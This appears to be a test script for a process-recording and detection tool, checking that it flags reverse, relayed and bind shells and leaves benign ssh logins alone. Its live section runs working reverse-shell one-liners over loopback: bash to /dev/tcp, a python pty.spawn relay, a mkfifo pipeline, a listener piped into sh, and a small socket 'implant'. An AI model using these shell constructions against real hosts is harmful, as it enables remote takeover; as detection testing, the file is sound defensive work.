# shells: the standard streams of every exec (record), and the shells on the
# network report finds: on the shells fixture (fixtures/record-attacks shells:
# a reverse shell, ncat and socat bind shells, each sent "id; uname -n", what
# came back in fixtures/shells.truth), on the relayed reverse shells of
# shells-relayed (ncat -e, socat with a pty, python's pty.spawn, the mkfifo
# pipeline into ncat; fixtures/shells-relayed.truth), on benign logins, and
# live on loopback.
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/report-lib.sh"

load_fixtures shells shells-relayed logins-benign basic
S=$SCRATCH/shells.db

# query SQL ARGS...: `report ARGS --format csv` as table r, and SQL over it
query() {
	local sql=$1
	shift
	run_report "$@" --format csv
	if [ "$rc" != 0 ] || [ ! -s "$SCRATCH/out" ]; then
		echo "status $rc: $(head -c 300 "$SCRATCH/err")"
		return
	fi
	sqlite3 -batch :memory: ".import --csv $SCRATCH/out r" "$sql"
}

# --- The fixture: what each shell was sent came back, and report finds them all ---------------
check_eq "truth: every shell ran what it was sent (uid=0, then the host name)" 5 \
	"$(grep -c 'uid=0(root) gid=0(root) groups=0(root) vm' fixtures/shells.truth)"
reverse=$(q shells "SELECT pid FROM process WHERE how = 'exec' AND args = 'bash -i'")
check_eq "summary: one network shell, the reverse shell, naming the attacker's end" \
	"netshell|bash/$reverse|10.200.0.66:4444|1" \
	"$(query "SELECT kind, subject, target, count FROM r WHERE section = 'detection' AND kind = 'netshell'" summary shells.db)"
descendants="WITH RECURSIVE d(pid) AS (SELECT $reverse UNION SELECT p.pid FROM process p JOIN d ON p.ppid = d.pid AND p.how = 'fork')
	SELECT count(*) FROM process WHERE how = 'exec' AND pid IN (SELECT pid FROM d) AND pid != $reverse"
check_eq "summary: its parents and how many programs it then ran" \
	"parents bash($(sql "$S" "SELECT ppid FROM process WHERE pid = $reverse AND how = 'exec'"))|ran $(sql "$S" "$descendants") programs" \
	"$(query "SELECT substr(detail, 1, instr(detail, ' <') - 1), substr(detail, instr(detail, 'ran '), instr(substr(detail, instr(detail, 'ran ')), ':') - 1) FROM r WHERE kind = 'netshell'" summary shells.db)"
check_eq "summary: the evidence command shows the shell's story" "report proc $reverse@" \
	"$(query "SELECT substr(evidence, 1, length('report proc $reverse@')) FROM r WHERE kind = 'netshell'" summary shells.db)"
check_eq "summary: two listeners starting a shell for each connection (ncat, socat)" \
	"bindshell|ncat|4445|2|2 shells for 2 accepted connections
bindshell|socat|4446|2|2 shells for 2 accepted connections" \
	"$(query "SELECT kind, rtrim(subject, '/0123456789'), substr(target, 6, 4), count, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'bindshell' ORDER BY 2" summary shells.db)"
run_report summary shells.db
check_match "summary: the shells come first among the detections" \
	$'DETECTIONS\n  network shells +1 FOUND[^\n]*\n +bash/[0-9]+ -> 10\\.200\\.0\\.66:4444: parents' "$(cat "$SCRATCH/out")"
check_eq "timeline: one exec marked as a shell on TCP, the reverse shell" \
	"$reverse|netshell|tcp|tcp|tcp" \
	"$(query "SELECT pid, shell, stdin, stdout, stderr FROM r WHERE shell = 'netshell'" timeline shells.db)"
check_eq "timeline: the shells the listeners started, each marked" "bindshell|/bin/bash|unix|2
bindshell|/bin/sh|pipe|2" \
	"$(query "SELECT shell, args, stdin, count(*) FROM r WHERE shell = 'bindshell' GROUP BY 1, 2, 3 ORDER BY 2" timeline shells.db)"
check_match "timeline: ... naming the listener" "/bin/sh  \\[shell for a connection ncat/[0-9]+ accepted\\]" \
	"$(run_report timeline shells.db; cat "$SCRATCH/out")"
check_match "timeline: its line names the connection" \
	"bash -i  \\[shell on TCP 10\\.200\\.0\\.10:[0-9]+ < 10\\.200\\.0\\.66:4444\\]" \
	"$(run_report timeline shells.db; cat "$SCRATCH/out")"
check_eq "timeline --ppid: the commands the reverse shell was sent, run by it" "id
uname -n" \
	"$(query "SELECT args FROM r WHERE event = 'exec' AND args IN ('id', 'uname -n')" timeline --ppid "$reverse" shells.db)"
check_eq "the bind shells' streams: pipes (ncat -e), a socketpair (socat EXEC)" \
	"/bin/bash|unix|unix
/bin/sh|pipe|pipe" \
	"$(sql "$S" "SELECT DISTINCT args, stdin, stdout FROM process WHERE how = 'exec' AND args IN ('/bin/sh', '/bin/bash') ORDER BY 1")"

# --- Relayed reverse shells: the shell does not hold the connection ----------------------------
check_eq "truth: each relayed shell ran what it was sent; ncat -c ran its one command" "5|1" \
	"$(grep -c '^[a-z-]* 10\.200\.0\.66 445[0-4]: .*uid=0(root) gid=0(root) groups=0(root) vm' fixtures/shells-relayed.truth)|$(grep -c '^ncat-c (benign) 10\.200\.0\.66 4455: uid=0(root)' fixtures/shells-relayed.truth)"
# The process that connected to each of the attacker's ports, from the capture's connects.
connector() {
	q shells-relayed "SELECT k.comm || '/' || k.pid FROM ev_connect e JOIN task k ON k.id = e.task WHERE e.dport = $1"
}
check_eq "summary: the five relayed shells, each through the process holding its connection" \
	"netshell|sh|10.200.0.66:4450|through $(connector 4450)
netshell|bash|10.200.0.66:4451|through $(connector 4451)
netshell|sh|10.200.0.66:4452|through $(connector 4452)
netshell|sh|10.200.0.66:4453|piped through $(connector 4453)
netshell|sh|10.200.0.66:4454|through $(connector 4454)" \
	"$(query "SELECT kind, rtrim(subject, '/0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE section = 'detection' AND kind LIKE '%shell' AND subject != '' ORDER BY target" summary shells-relayed.db)"
check_eq "summary: what each ran is what the attacker sent (the login shell's profile first)" \
	"4451|id -u; id; uname -n
4450|id; uname -n
4452|id; uname -n
4453|id; uname -n
4454|id; uname -n" \
	"$(query "SELECT substr(target, -4), substr(detail, instr(detail, ': ') + 2) FROM r WHERE kind = 'netshell' AND subject != '' ORDER BY 2, 1" summary shells-relayed.db)"
check_eq "summary: ncat -c's one command and a script piped through a shell are not flagged" \
	"bindshell|0|none
netshell|5|" \
	"$(query "SELECT kind, sum(subject != ''), ifnull(group_concat(CASE WHEN subject = '' THEN detail END), '') FROM r WHERE section = 'detection' AND kind LIKE '%shell' GROUP BY kind ORDER BY kind" summary shells-relayed.db)"
check_eq "truth: the two ordinary logins answered as the login user" "1|4246" \
	"$(sed -n 's/^ssh -tt (benign): \([0-9]*\) line.*/\1/p' fixtures/shells-relayed.truth)|$(sed -n 's/^ssh bash (benign): //p' fixtures/shells-relayed.truth)"
check_eq "their shells, whose parent sshd held the connection, are no network shell" \
	"-bash|tty|1
bash|pipe|1
0" \
	"$(sql "$SCRATCH/shells-relayed.db" "SELECT args, stdin, parent_tcp_rport IS NOT NULL FROM process WHERE how = 'exec' AND uid = 4246 AND args IN ('-bash', 'bash') ORDER BY t")
$(query "SELECT count(*) FROM r WHERE kind = 'netshell' AND (detail LIKE '%sshd%' OR subject LIKE '-bash/%')" summary shells-relayed.db)"
check_eq "summary --daemon sshd,socat: socat lets users in, so its shell is no relay" "4|0" \
	"$(query "SELECT count(*), sum(detail LIKE 'through socat/%') FROM r WHERE kind = 'netshell'" summary --daemon sshd,socat shells-relayed.db)"
check_eq "timeline --daemon sshd,socat: the same, socat's shell no relay" "4|0" \
	"$(query "SELECT count(*), sum(comm = 'bash') FROM r WHERE shell = 'netshell'" timeline --daemon sshd,socat shells-relayed.db)"
check_eq "timeline --daemon dropbear: sshd's accepts no logins, its sessions' shells marked" \
	"0
netshell|tty
bindshell|pipe" \
	"$(query "SELECT count(*) FROM r WHERE login != ''" timeline --daemon dropbear shells-relayed.db)
$(query "SELECT shell, stdin FROM r WHERE shell != '' AND uid = 4246 ORDER BY ts_ns" timeline --daemon dropbear shells-relayed.db)"
refused "timeline -c --daemon: connections tell no logins" timeline -c --daemon sshd shells-relayed.db
check_eq "export --daemon dropbear: as timeline's, the two login shells marked too" "5|7" \
	"$(run_report export shells-relayed.db; grep -c '"shell":"[a-z]*shell"' "$SCRATCH/out")|$(run_report export --daemon dropbear shells-relayed.db; grep -c '"shell":"[a-z]*shell"' "$SCRATCH/out")"
check_eq "timeline: each relayed shell marked, on what it reads (pipes, a pty)" \
	"/bin/sh|pipe|pipe
bash -li|tty|tty
/bin/sh|tty|tty
/bin/sh -i|pipe|pipe
/bin/sh|pipe|pipe" \
	"$(query "SELECT args, stdin, stdout FROM r WHERE shell = 'netshell' ORDER BY ts_ns" timeline shells-relayed.db)"
check_eq "timeline: ... each through the process holding its connection" \
	"10.200.0.66:4450, through $(connector 4450)
10.200.0.66:4451, through $(connector 4451)
10.200.0.66:4452, through $(connector 4452)
10.200.0.66:4453, piped through $(connector 4453)
10.200.0.66:4454, through $(connector 4454)" \
	"$(run_report timeline shells-relayed.db; grep -o '< [0-9.:]*, [a-z ]*through [a-z0-9]*/[0-9]*\]$' "$SCRATCH/out" | tr -d '<]' | sed 's/^ //')"
check_match "timeline: its line names the connection and the relay" \
	"/bin/sh -i  \\[shell on TCP 10\\.200\\.0\\.10:[0-9]+ < 10\\.200\\.0\\.66:4453, piped through ncat/[0-9]+\\]" \
	"$(run_report timeline shells-relayed.db; cat "$SCRATCH/out")"
check_eq "the implant: its connect 65 s before its shell, which its socket tells (held at the exec)" \
	"65|4454" \
	"$(sql "$SCRATCH/shells-relayed.db" "SELECT (s.t - e.t) / 1000000000, s.parent_tcp_rport FROM process s JOIN ev_connect e ON e.dport = s.parent_tcp_rport WHERE s.args = '/bin/sh' AND s.t > 60000000000")"
check_eq "the mkfifo pipeline: the shell's output pipe is ncat's input" \
	"1" \
	"$(sql "$SCRATCH/shells-relayed.db" "SELECT count(*) FROM process s JOIN process n ON n.stdin_pipe = s.stdout_pipe WHERE s.args = '/bin/sh -i' AND n.comm = 'ncat' AND s.stderr_pipe = s.stdout_pipe")"

# --- Benign: login shells, commands over ssh, captures without streams -------------------------
check_eq "logins-benign: its login shells and ssh commands are no shell on the network" \
	"netshell|0|none
bindshell|0|none" \
	"$(query "SELECT kind, count, detail FROM r WHERE section = 'detection' AND kind LIKE '%shell'" summary logins-benign.db)"
check_eq "basic, recorded before the streams: not recorded, not none" \
	"netshell||not recorded
bindshell||not recorded" \
	"$(query "SELECT kind, count, detail FROM r WHERE section = 'detection' AND kind LIKE '%shell'" summary basic.db)"

# --- Live: what record reads of the streams ----------------------------------------------------
needs_root "shells: record the streams of execs" || exit 0
# listen_once NAME: a listener in the background on a port the kernel gives
# it, which it names in $SCRATCH/NAME.port once listening; it sends the one
# connection it accepts "exit" and reads what comes back (for a minute: the
# implant's listener waits while record starts, seconds on a loaded host)
listen_once() {
	python3 -c "$accept_one
s.settimeout(60)
s.sendall(b'exit\n')
while s.recv(4096):
    pass" "$SCRATCH/$1.port" &
	until_listening "$1"
}
# python accepting one connection as s on a port the kernel gives it, which
# it names in the file of its first argument once listening
accept_one='import os, socket, sys
l = socket.socket()
l.bind(("127.0.0.1", 0))
l.listen(1)
l.settimeout(60)
with open(sys.argv[1] + ".tmp", "w") as f:
    f.write(str(l.getsockname()[1]))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
s, _ = l.accept()'
# until_listening NAME: until $SCRATCH/NAME.port names the port (python may be slow to start)
until_listening() {
	for _ in $(seq 600); do
		[ -s "$SCRATCH/$1.port" ] && break
		sleep 0.05
	done
}
# An implant connected before the recording, which later runs a shell on
# pipes for its operator: its connect is not in the capture, only its socket.
listen_once implant
implant_listener=$!
python3 -c 'import os, socket, subprocess, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
while not os.path.exists(sys.argv[2]):
    time.sleep(0.02)
sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
sh.stdin.write(s.recv(4096))
sh.stdin.close()
s.sendall(sh.stdout.read())
sh.wait()' "$(cat "$SCRATCH/implant.port")" "$SCRATCH/recording" > /dev/null 2>&1 < /dev/null &
implant=$!
for _ in $(seq 600); do # until it is connected
	[ "$(ss -Htn state established "dport = :$(cat "$SCRATCH/implant.port")" | wc -l)" = 1 ] && break
	sleep 0.05
done
db=$SCRATCH/live.db
start_record "$db" -e process,connect,accept || { fail "shells: record" "did not start"; exit 0; }
touch "$SCRATCH/recording"
wait "$implant_listener" "$implant"

listen_once reverse
listener=$!
port=$(cat "$SCRATCH/reverse.port")
bash -c "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2> /dev/null < /dev/null
wait "$listener"
# A relayed reverse shell: python holds the connection, the shell a pty.
relay_shell='import os, pty, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(["/bin/sh", "-i"])'
listen_once relayed
listener=$!
python3 -c "$relay_shell" "$(cat "$SCRATCH/relayed.port")" > /dev/null 2>&1 < /dev/null &
relay=$!
wait "$listener" "$relay"
# The same from a program named sudo: as sudo's LDAP lookup before its shell, not a relay.
ln -s "$(python3 -c 'import sys; print(sys.executable)')" "$SCRATCH/sudo"
listen_once lookup
listener=$!
"$SCRATCH/sudo" -c "$relay_shell" "$(cat "$SCRATCH/lookup.port")" > /dev/null 2>&1 < /dev/null &
wait "$listener" $!
# The mkfifo pipeline with a filter between the shell and the connection:
# its relay is two pipes down.  The client sends its input, and writes what
# comes back to the fifo the shell's input is read from.
pipe_client='import socket, sys, threading
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
def back():
    while True:
        d = s.recv(4096)
        if not d:
            break
        sys.stdout.buffer.write(d)
        sys.stdout.flush()
    sys.stdout.close()
threading.Thread(target=back, daemon=True).start()
for chunk in iter(lambda: sys.stdin.buffer.read1(4096), b""):
    s.sendall(chunk)
s.shutdown(socket.SHUT_WR)'
listen_once pipeline
listener=$!
mkfifo "$SCRATCH/pipeline.fifo"
# shellcheck disable=SC2016 # the inner shell's arguments
timeout 30 sh -c 'cat "$1" | /bin/sh -i 2>&1 | cat | python3 -c "$2" "$3" > "$1"' sh \
	"$SCRATCH/pipeline.fifo" "$pipe_client" "$(cat "$SCRATCH/pipeline.port")" > /dev/null 2>&1 < /dev/null
wait "$listener"
# A listener feeding a shell's input through a pipe (nc -l PORT | sh, the
# output lost): the shell's relay is the writer of its stdin, which accepted.
feed_listener="$accept_one
for chunk in iter(lambda: s.recv(4096), b''):
    sys.stdout.buffer.write(chunk)
    sys.stdout.flush()"
# feed_shell NAME FILTER: the listener | FILTER /bin/sh, its shell sent
# "echo casefile-NAME; exit", what it printed in $SCRATCH/NAME.out
feed_shell() {
	# shellcheck disable=SC2016 # the inner shell's arguments
	timeout 30 sh -c 'python3 -c "$1" "$2" | '"$2"' /bin/sh > "$3"' sh "$feed_listener" \
		"$SCRATCH/$1.port" "$SCRATCH/$1.out" 2> /dev/null < /dev/null &
	until_listening "$1"
	python3 -c 'import socket, sys
socket.create_connection(("127.0.0.1", int(sys.argv[1]))).sendall(sys.argv[2].encode())' \
		"$(cat "$SCRATCH/$1.port")" "echo casefile-$1
exit
"
	wait $!
}
feed_shell fed ""
# ... and through a filter (nc -l PORT | cat | sh): two pipes up.
feed_shell filtered "cat |"
echo casefile-streams | cat > "$SCRATCH/streams.out"
printf casefile-pipe | cat | tr '[:lower:]' '[:upper:]' > "$SCRATCH/pipes.out"
stop_record
check_eq "record: a reverse shell's streams are its TCP connection, to the listener" \
	"tcp|tcp|tcp|127.0.0.1|$port|127.0.0.1" \
	"$(sql "$db" "SELECT stdin, stdout, stderr, r.addr, tcp_rport, l.addr FROM process p JOIN address r ON r.id = tcp_raddr JOIN address l ON l.id = tcp_laddr WHERE how = 'exec' AND args = 'bash --norc --noprofile -i'")"
check_eq "report: the relayed shell, on a pty, through the python that connected" \
	"netshell|sh/|127.0.0.1:$(cat "$SCRATCH/relayed.port")|through python3/$relay" \
	"$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'netshell' AND target = '127.0.0.1:$(cat "$SCRATCH/relayed.port")'")"
check_eq "report: the implant's shell on pipes, through the connection it held, made before recording" \
	"0|netshell|sh/|127.0.0.1:$(cat "$SCRATCH/implant.port")|through python3/$implant" \
	"$(sql "$db" "SELECT count(*) FROM ev_connect WHERE dport = $(cat "$SCRATCH/implant.port")")|$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'netshell' AND target = '127.0.0.1:$(cat "$SCRATCH/implant.port")'")"
check_eq "report: a shell whose output goes through cat to the connection, piped through python" \
	"netshell|sh/|127.0.0.1:$(cat "$SCRATCH/pipeline.port")|piped through python3/" \
	"$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), target, rtrim(substr(detail, 1, instr(detail, ';') - 1), '0123456789') FROM r WHERE kind = 'netshell' AND target = '127.0.0.1:$(cat "$SCRATCH/pipeline.port")'")"
check_eq "report: a shell fed by a listener through a pipe, a bind shell of that listener" \
	"casefile-fed|bindshell|python3/|port $(cat "$SCRATCH/fed.port"), first from 127.0.0.1|1 shell for 1 accepted connection; first ran /bin/sh" \
	"$(cat "$SCRATCH/fed.out")|$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), substr(target, 1, instr(target, ':') - 1), detail FROM r WHERE kind = 'bindshell' AND target LIKE 'port $(cat "$SCRATCH/fed.port"),%'")"
check_eq "report: ... and through cat between them" \
	"casefile-filtered|bindshell|python3/|port $(cat "$SCRATCH/filtered.port"), first from 127.0.0.1|1 shell for 1 accepted connection; first ran /bin/sh" \
	"$(cat "$SCRATCH/filtered.out")|$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), substr(target, 1, instr(target, ':') - 1), detail FROM r WHERE kind = 'bindshell' AND target LIKE 'port $(cat "$SCRATCH/filtered.port"),%'")"
check_eq "report: ... not the shell of a program that authenticates (sudo), which connected too" \
	"1|0" \
	"$(sql "$db" "SELECT count(*) FROM ev_connect e JOIN task k ON k.id = e.task WHERE k.comm = 'sudo'")|$(cd "$SCRATCH" && "$report" summary --format csv "$db" | grep -c 'through sudo/')"
check_eq "record: a pipeline's cat reads a pipe, writes a file" "pipe|file|" \
	"$(sql "$db" "SELECT stdin, stdout, tcp_lport FROM process WHERE how = 'exec' AND args = 'cat' AND ppid = $$ LIMIT 1")"
check_eq "record: a pipeline's pipe is one inode at both ends (cat writes what tr reads)" "1|1|1" \
	"$(sql "$db" "SELECT c.stdin_pipe IS NOT NULL, c.stdin_pipe != c.stdout_pipe, c.stdout_pipe = t.stdin_pipe FROM process c JOIN process t ON t.ppid = c.ppid AND t.comm = 'tr' AND abs(t.t - c.t) < 1000000000 WHERE c.how = 'exec' AND c.args = 'cat' AND c.ppid = $$ AND t.how = 'exec' AND c.stdout = 'pipe'")"
check_eq "record: no pipe, no pipe inode (a terminal, a file, a socket)" 0 \
	"$(sql "$db" "SELECT count(*) FROM process WHERE (stdin != 'pipe' AND stdin_pipe IS NOT NULL) OR (stdout != 'pipe' AND stdout_pipe IS NOT NULL) OR (stdout = 'pipe' AND stdout_pipe IS NULL)")"
check_eq "record: forks have no streams" 0 \
	"$(sql "$db" "SELECT count(*) FROM process WHERE how = 'fork' AND stdin IS NOT NULL")"
check_eq "record: every exec has its three streams" 0 \
	"$(sql "$db" "SELECT count(*) FROM process WHERE how = 'exec' AND (stdin IS NULL OR stdout IS NULL OR stderr IS NULL)")"
